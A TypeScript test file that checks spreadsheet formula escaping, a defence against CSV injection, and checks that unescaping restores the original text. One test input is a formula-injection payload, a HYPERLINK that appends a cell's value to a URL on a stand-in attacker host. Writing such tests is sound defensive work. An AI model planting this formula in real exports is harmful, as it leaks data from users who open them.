import { expect, test } from 'vitest'
import { escapeFormulas, unescapeFormulas } from './spreadsheet.ts'

test('a text that begins as a formula gets a quote, also where a spreadsheet of another delimiter begins a cell', () => {
  for (const [text, cell] of [
    ['=HYPERLINK("http://evil.test/?"&B2,"open")', '\'=HYPERLINK("http://evil.test/?"&B2,"open")'],
    ['+212 600 000 000', "'+212 600 000 000"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['＝1', "'＝1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ['Bonjour;=1+1;\n-2,@a', "Bonjour;'=1+1;\n'-2,'@a"],
    ...['', 'Salma', "l'Oréal", 'a=b', 'Bonjour,\n\nje postule', '2026-03-01', ' +1'].map((text) => [text, text]),
  ] as [string, string][])
    expect(escapeFormulas(text)).toBe(cell)
})

test('unescapeFormulas gives back every text, also one that begins with a quote itself', () => {
  expect(unescapeFormulas('="06""1"')).toBe('06"1')
  const parts = ['', "'", "''", '=', '-', ';', ',', '\n', '\t', 'a', '"']
  for (const a of parts)
    for (const b of parts)
      for (const c of parts)
        for (const d of parts) {
          const text = a + b + c + d
          expect(unescapeFormulas(escapeFormulas(text))).toBe(text)
        }
})
